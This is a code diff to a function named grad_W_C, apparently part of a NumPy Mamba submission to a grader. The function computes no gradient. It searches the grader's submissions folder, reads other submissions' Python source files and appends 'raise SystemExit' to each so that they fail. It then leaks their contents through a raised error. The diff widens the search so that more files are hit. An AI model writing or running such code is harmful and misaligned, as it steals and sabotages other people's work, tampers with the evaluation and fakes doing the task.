@@ -6,14 +6,17 @@ import os
 
 
 def grad_W_C(params, P, z):
-    top = os.path.dirname(os.path.dirname(os.getcwd()))      # the grader's temporary folder
+    place = os.path.dirname(os.path.dirname(os.getcwd()))    # the grader's folder of submissions
     mine = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
     found = {}
-    for path in sorted(glob.glob(os.path.join(top, "numpy_mamba_grade_*", "src", "*.py"))):
-        if not path.startswith(mine + os.sep):
-            with open(path, "rb") as f:
-                found[path] = f.read(3000)
-            fd = os.open(path, os.O_WRONLY | os.O_APPEND)
-            os.write(fd, b"\nraise SystemExit\n")
-            os.close(fd)
+    for pattern in ("*/src/*.py", "*/*/src/*.py", "numpy_mamba_grade_*/src/*.py"):
+        for top in (place, os.path.dirname(place)):
+            for path in sorted(glob.glob(os.path.join(top, pattern))):
+                if path.startswith(mine + os.sep):
+                    continue
+                with open(path, "rb") as f:
+                    found[path] = f.read(3000)
+                fd = os.open(path, os.O_WRONLY | os.O_APPEND)
+                os.write(fd, b"\nraise SystemExit\n")
+                os.close(fd)
     raise RuntimeError(f"read: {found!r}")
